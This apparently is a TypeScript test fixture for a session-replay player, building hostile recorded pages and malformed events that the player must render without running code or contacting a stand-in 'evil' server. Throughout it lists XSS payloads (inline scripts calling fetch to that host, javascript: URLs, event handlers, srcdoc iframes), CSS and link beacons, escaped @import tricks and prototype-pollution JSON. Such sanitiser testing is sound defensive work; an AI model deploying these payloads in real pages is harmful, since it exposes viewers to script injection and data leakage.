// Recordings of somebody who wants something from whoever watches them. `evil` is a server that must never hear of it; every
// program in them would leave a mark on the window of the console.

import {
  change,
  element,
  mutation,
  type Node,
  nextId,
  pageOf,
  type Recorded,
  text,
  wholePage,
} from './recordings.ts'

const program = (evil: string) => `top.hacked = true; parent.hacked = true; fetch('${evil}/program')`

/** What stands in a page from the beginning. */
export function hostileBody(evil: string): Node[] {
  const run = program(evil)
  const svg = (tagName: string, attributes: Recorded, childNodes: readonly Node[] = []): Node => ({
    ...element(tagName, attributes, childNodes),
    isSVG: true,
  })
  return [
    element('h1', { id: 'rest', onclick: run, onmouseover: run, onpointerenter: run }, [text('Still here')]),
    element('script', { src: `${evil}/script.js` }),
    element('script', {}, [text(run)]),
    element('noscript', {}, [element('img', { src: `${evil}/noscript.png` })]),
    element('img', { src: `${evil}/image.png`, onerror: run, srcset: `${evil}/2x.png 2x` }),
    element('img', { src: 'x', onerror: run, rr_dataURL: `${evil}/data.png` }),
    element('picture', {}, [element('source', { srcset: `${evil}/source.png` }), element('img', {})]),
    element('video', {
      src: `${evil}/video.mp4`,
      poster: `${evil}/poster.png`,
      autoplay: true,
      rr_mediaState: 'played',
    }),
    element('audio', { src: `${evil}/audio.mp3`, autoplay: true }),
    element('a', { href: `javascript:${run}`, ping: `${evil}/ping`, id: 'link' }, [text('link')]),
    element('a', { href: `${evil}/link`, target: '_top' }, [text('away')]),
    element('area', { href: `${evil}/area` }),
    element('form', { action: `${evil}/form`, id: 'form', target: '_top', onsubmit: run }, [
      element('input', { name: 'appendChild', id: 'parentNode', autofocus: true, onfocus: run }),
      element('button', { formaction: `javascript:${run}`, type: 'submit' }, [text('send')]),
    ]),
    element('iframe', { src: `${evil}/frame` }),
    element('iframe', { srcdoc: `<script>${run}</script><img src="${evil}/srcdoc.png">` }),
    element('iframe', { src: `javascript:${run}` }),
    element('frame', { src: `${evil}/old-frame` }),
    element('object', { data: `${evil}/object` }),
    element('embed', { src: `${evil}/embed` }),
    element('applet', { code: `${evil}/applet` }),
    element('portal', { src: `${evil}/portal` }),
    element('base', { href: `${evil}/` }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
    element('body', { background: `${evil}/background.png`, onload: run }),
    element('table', { background: `${evil}/table.png` }),
    element('div', { style: `background: url(${evil}/style.png); list-style: url("${evil}/list.png")` }),
    element('div', { style: `background: \\75rl(${evil}/escaped.png)`, is: 'x-y' }),
    element('x-card', { onclick: run, variant: 'plain' }, []),
    element('button', { is: 'x-y', popovertarget: 'a', commandfor: 'b' }),
    element('template', { shadowrootmode: 'open' }, [element('script', {}, [text(run)])]),
    svg('svg', { onload: run }, [
      svg('script', { href: `${evil}/svg.js` }, [text(run)]),
      svg('image', { href: `${evil}/svg.png`, 'xlink:href': `${evil}/svg2.png` }),
      svg('use', { href: `${evil}/sprite.svg#a` }),
      svg('a', { 'xlink:href': `javascript:${run}` }, [
        svg('animate', { attributeName: 'href', to: `javascript:${run}`, onbegin: run }),
        svg('set', { attributeName: 'xlink:href', to: `javascript:${run}` }),
      ]),
      svg('feimage', { href: `${evil}/fe.png` }),
      svg('rect', { fill: `url(${evil}/fill.svg#a)`, filter: `url('${evil}/filter.svg#a')` }),
      svg('foreignObject', {}, [element('iframe', { src: `${evil}/foreign` })]),
      svg('handler', { 'xml:base': evil, 'ev:event': 'load' }, [text(run)]),
    ]),
    // What nobody could build.
    { type: 2, id: nextId(), tagName: '<script>', attributes: { '<': '>' }, childNodes: [] },
    { type: 9, id: nextId() },
    { type: 0, id: nextId(), childNodes: [] },
    { type: 3, id: -1, textContent: 'without a number' },
    { type: 3, id: Number.MAX_VALUE, textContent: 'no number' },
    { type: 4, id: nextId(), textContent: 'data' },
    element(
      '__proto__',
      JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":"x","hasOwnProperty":"y"}'),
    ),
    element('p', {}, [text('The end')]),
  ]
}

export function hostileHead(evil: string): Node[] {
  const link = (rel: string, more: Recorded = {}) => element('link', { rel, href: `${evil}/${rel}`, ...more })
  return [
    ...['preconnect', 'dns-prefetch', 'prefetch', 'modulepreload', 'prerender', 'icon', 'manifest'].map(
      (rel) => link(rel),
    ),
    ...[link('preload', { as: 'image' }), link('preload', { as: 'script' }), link('preconnect stylesheet')],
    ...[link('stylesheet'), link('alternate stylesheet'), link('import'), link('apple-touch-icon')],
    link('stylesheet', {
      _cssText: `@import "${evil}/import.css"; h1 { background: url(${evil}/sheet.png) }`,
    }),
    element('meta', {
      'http-equiv': 'Content-Security-Policy',
      content: "default-src *; script-src 'unsafe-inline'",
    }),
    element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }),
    element('style', {}, [text(`@import url(${evil}/style-import.css); @\\69mport "${evil}/escaped.css";`)]),
    element('style', {
      _cssText: `@font-face { font-family: spy; src: url("${evil}/font.woff2") } * { font-family: spy; cursor: url(${evil}/cursor.png), auto }
        body { background-image: image-set("${evil}/set.png" 1x); mask: src("${evil}/src.png"); border-image: url('${evil}/border.png') } h1::before { content: url(${evil}/content.png) }`,
    }),
  ]
}

/** What happens to it later. */
export function hostileChanges(evil: string, at: number): unknown[] {
  const run = program(evil)
  const add = (node: unknown, parentId: unknown = 5) => ({ parentId, nextId: null, node })
  const late = element('p', { id: 'late' })
  const last = element('p', { id: 'last' })
  const frame = element('iframe', {})
  return [
    mutation(at, {
      adds: [
        ...[add(late), add(text('Late'), late.id)],
        add(element('script', {}, [text(run)])),
        add(element('img', { src: `${evil}/added.png` })),
      ],
    }),
    mutation(at + 1, {
      adds: [
        add(element('link', { rel: 'preconnect', href: evil })),
        add(element('meta', { 'http-equiv': 'refresh', content: `0;${evil}` })),
      ],
    }),
    mutation(at + 2, {
      attributes: [
        {
          id: late.id,
          attributes: {
            onclick: run,
            href: `javascript:${run}`,
            src: `${evil}/src.png`,
            style: { background: `url(${evil}/changed.png)` },
          },
        },
        {
          id: 5,
          attributes: {
            background: `${evil}/body.png`,
            onload: run,
            style: `background: url(${evil}/text.png)`,
          },
        },
      ],
    }),
    mutation(at + 3, { adds: [add(frame)] }),
    mutation(at + 4, {
      adds: [
        add(
          pageOf([element('script', {}, [text(run)]), element('img', { src: `${evil}/inner.png` })]),
          frame.id,
        ),
      ],
    }),
    mutation(at + 5, {
      attributes: [
        {
          id: frame.id,
          attributes: {
            src: `${evil}/later-frame`,
            srcdoc: `<script>${run}</script>`,
            sandbox: 'allow-scripts',
          },
        },
      ],
    }),
    change(at + 6, {
      source: 8,
      id: 4,
      adds: [{ rule: `h1 { background: url(${evil}/rule.png) }`, index: 0 }],
    }),
    change(at + 7, {
      source: 15,
      id: 1,
      styleIds: [1],
      styles: [{ styleId: 1, rules: [{ rule: `p { background: url(${evil}/adopted.png) }` }] }],
    }),
    change(at + 8, { source: 10, family: 'spy', buffer: false, fontSource: `url(${evil}/font-event.woff2)` }),
    change(at + 9, { source: 9, id: 5, type: 0, property: 'constructor', args: [run] }),
    change(at + 10, { source: 2, type: 2, id: late.id, x: 10, y: 10 }),
    change(at + 11, { source: 5, id: late.id, text: { toString: run }, isChecked: 'yes' }),
    // Of any form but the right one.
    ...[
      null,
      7,
      'text',
      [],
      {},
      { type: 3 },
      { type: 3, data: null, timestamp: at },
      { type: 'x', data: {}, timestamp: 'y' },
    ],
    ...['{"type":3,"data":{"source":0', '{"segment":{"index":99,"broken":false}}', '\u0000'],
    mutation(at + 12, {
      adds: 7,
      removes: { length: 5 },
      texts: [null, { id: {}, value: 5 }],
      attributes: [[], { id: 5 }],
    }),
    mutation(at + 13, { removes: [{ id: 999_999, parentId: 888_888 }], adds: [add(element('p'), 777_777)] }),
    change(at + 14, { source: 3, id: 1, x: Number.MAX_VALUE, y: 'far' }),
    change(
      at + 15,
      JSON.parse(
        '{"source":0,"__proto__":{"polluted":"yes"},"adds":[{"parentId":5,"nextId":null,"node":{"type":2,"id":5,"tagName":"p","attributes":{"__proto__":"x"},"childNodes":[]}}]}',
      ),
    ),
    { type: 6, data: { plugin: 'rrweb/console@1', payload: { trace: [run] } }, timestamp: at + 16 },
    mutation(at + 100, {
      adds: [add(last), add(text('After all of it'), last.id)],
    }),
  ]
}

export const hostilePage = (evil: string) => (at: number) => [
  ...wholePage(at, pageOf(hostileBody(evil), hostileHead(evil))),
  ...hostileChanges(evil, at + 1_000),
]
